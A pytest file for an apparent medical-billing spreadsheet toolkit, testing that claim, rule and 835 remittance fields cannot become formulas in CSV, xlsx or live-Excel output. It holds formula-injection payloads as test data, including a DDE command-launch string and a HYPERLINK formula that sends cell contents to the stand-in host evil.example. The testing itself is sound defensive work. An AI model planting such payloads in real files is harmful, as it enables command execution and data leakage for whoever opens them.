"""Outside text never becomes a formula (issue 17 §1): each payload, in each field a file can
carry (835, Claims, Rules, MCD import, findings), through each write path (openpyxl in place,
xlsxwriter reports, CSV, the live workbook).  Checked with openpyxl (no cell of type 'f') and
read back with python-calamine (the text arrives intact)."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from conftest import run

from toolkit.tables import CLAIMS, DENIALS, RULES
from toolkit.workbook.files import WorkbookFile, read_csv, read_table

REPO = Path(__file__).resolve().parents[1]
WORKBOOK = REPO / "workbooks" / "medical_necessity.xlsm"
REMIT = REPO / "workbooks" / "sample" / "remittance_medicare_2026-11-20.835"
FIXTURE_835 = Path(__file__).parent / "fixtures" / "x12_835" / "medicare_denials.835"

DDE = "=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("https://evil.example/?"&A2,"Details")'
PAYLOADS = [DDE, HYPERLINK, "+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1"]
X12_PAYLOADS = [DDE, '=HYPERLINK("evil.example/"&A2)', "+1", "-1+1", "@SUM(1)"]  # no X12 separators in them


def formula_cells(path: Path, sheets) -> list[str]:
    wb = openpyxl.load_workbook(path)
    return [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets if ws.title in sheets
            for row in ws.iter_rows() for c in row if c.data_type == "f"]


def _set_cells(path: Path, sheet: str, header: str, values: dict[int, str]) -> None:
    """Put hostile text into a table as a real user's file would hold it (text cells)."""
    spec = {"Claims": CLAIMS, "Rules": RULES, "Denials": DENIALS}[sheet]
    book = WorkbookFile(path)
    book.write_columns(spec, pd.DataFrame({header: list(values.values())}, index=list(values)))
    book.save()


@pytest.mark.parametrize("payload", PAYLOADS, ids=["dde", "hyperlink", "plus", "minus", "at", "tab", "cr"])
def test_validate_in_place_writes_claims_dx_and_rules_policy_payloads_as_text(workbook, payload):
    rules = read_table(workbook, RULES)
    _set_cells(workbook, "Rules", "Policy", {int(r): payload for r in rules.index})
    first = int(read_table(workbook, CLAIMS).index[0])
    _set_cells(workbook, "Claims", "Dx Codes", {first: payload, first + 1: "M17.11, " + payload})
    _set_cells(workbook, "Claims", "Claim ID", {first + 2: payload})
    result = run("validate", workbook, "--as-of", "2026-11-27")
    assert result.exit_code == 0, result.output
    assert formula_cells(workbook, {"Claims", "Rules", "Denials"}) == []
    claims = read_table(workbook, CLAIMS)  # python-calamine
    assert payload.strip() in " ".join(claims["Findings"].astype(str)) + " ".join(claims["Policy"].astype(str))
    assert claims.loc[first + 2, "Claim ID"] == payload or payload.startswith(("\t", "\r"))


def _hostile_835(tmp_path: Path, payload: str) -> Path:
    text = FIXTURE_835.read_text(encoding="utf-8")
    text = (text.replace("N1*PR*MEDICARE PART B", f"N1*PR*{payload}")
                .replace("TRN*1*EFT260302A", f"TRN*1*{payload}")
                .replace("CLP*CLM-1002*", f"CLP*{payload}*")
                .replace("LQ*HE*N54", f"LQ*HE*{payload}"))
    path = tmp_path / "=1+1.835"  # the file name too: it becomes the Source column
    path.write_text(text, encoding="utf-8")
    return path


@pytest.mark.parametrize("payload", X12_PAYLOADS, ids=["dde", "hyperlink", "plus", "minus", "at"])
def test_an_835_with_payloads_in_every_field_and_its_name_adds_only_text_cells(tmp_path, payload):
    from denials_support import build_workbook

    claims = [("CLM-1001", 1, "P001", "Medicare Part B", pd.Timestamp(2026, 2, 5).date(), "64483", "RT",
               "M48.061", None, "RED", "DX_NOT_COVERED")]
    book = build_workbook(tmp_path / "practice.xlsx", claims=claims)
    _set_cells(book, "Claims", "Patient ID", {2: payload})  # a text cell, as typed or imported
    result = run("denials", "import-835", _hostile_835(tmp_path, payload), "--workbook", book)
    assert result.exit_code == 0, result.output
    assert formula_cells(book, {"Denials", "Claims"}) == []
    denials = read_table(book, DENIALS)
    assert set(denials["Source"]) == {"=1+1.835"}
    assert payload in set(denials["Claim ID"])      # CLP01 of the unlinked claim
    assert payload in set(denials["Patient ID"])    # travelled from Claims on the linked one


def test_mcd_import_writes_a_payload_payer_into_rules_as_text(tmp_path, workbook):
    from test_mcd import make_folder

    download = make_folder(tmp_path / "dl")
    result = run("rules", "import-mcd", download, "--article", "A99901", "--payer", DDE, "--workbook", workbook)
    assert result.exit_code == 0, result.output
    assert formula_cells(workbook, {"Rules"}) == []
    assert DDE in set(read_table(workbook, RULES)["Payer"])


def test_csv_report_and_history_neutralise_payloads_and_read_back_unchanged(tmp_path, workbook):
    first = int(read_table(workbook, CLAIMS).index[0])
    _set_cells(workbook, "Claims", "Claim ID", {first: DDE, first + 1: "@SUM(1)"})
    _set_cells(workbook, "Claims", "Dx Codes", {first: "=1+1"})
    report = tmp_path / "report.csv"
    assert run("validate", workbook, "--as-of", "2026-11-27", "--report", report).exit_code == 0
    text = report.read_text(encoding="utf-8")
    assert "'=cmd|" in text and "'@SUM(1)" in text
    assert not any(line.startswith(("=", "+", "-", "@")) for line in text.splitlines())
    back = read_csv(report)
    assert DDE in set(back["Claim ID"]) and "@SUM(1)" in set(back["Claim ID"])
    # the validation-history CSV beside the workbook (in-place Validate)
    assert run("validate", workbook, "--as-of", "2026-11-27").exit_code == 0
    from toolkit.workbook.history import history_path, read_history

    assert "'=cmd|" in history_path(workbook).read_text(encoding="utf-8")
    assert DDE in set(read_history(workbook)["Claim ID"])


def test_xlsx_report_cells_are_text_not_formulas(tmp_path, workbook):
    first = int(read_table(workbook, CLAIMS).index[0])
    _set_cells(workbook, "Claims", "Claim ID", {first: DDE, first + 1: HYPERLINK})
    report = tmp_path / "report.xlsx"
    assert run("validate", workbook, "--as-of", "2026-11-27", "--report", report).exit_code == 0
    assert formula_cells(report, {"Report", "About"}) == []
    assert {DDE, HYPERLINK} <= set(pd.read_excel(report, sheet_name="Report", engine="calamine")["Claim ID"])


class _Range:
    def __init__(self, store, key):
        self.store, self.key = store, key

    @property
    def value(self):
        return self.store.get(self.key)

    @value.setter
    def value(self, v):
        self.store[self.key] = v


class _Sheet:
    """A stand-in for an xlwings sheet (Excel's COM boundary is not reachable here)."""

    def __init__(self, name):
        self.name, self.cells, self.tables = name, {}, []

    def range(self, *where):
        return _Range(self.cells, where)


class _Sheets(list):
    def add(self, name, after=None):
        sheet = _Sheet(name)
        self.append(sheet)
        return sheet


class _Book:
    def __init__(self):
        self.sheets = _Sheets([_Sheet("Dashboard")])
        self.app = object()
        self.fullname = "practice.xlsm"


def test_the_live_workbook_gets_every_payload_with_excels_text_apostrophe():
    from toolkit.excel.live import LiveBook, live_value

    book = LiveBook(_Book())
    book.write_cells("Dashboard", "B4", [PAYLOADS + ["'quoted", "plain", 3]])
    written = book.book.sheets[0].cells[("B4",)][0]
    assert written[:len(PAYLOADS)] == ["'" + p for p in PAYLOADS]
    assert written[-3:] == ["''quoted", "plain", 3]
    assert live_value("M17.11") == "M17.11" and live_value(None) is None
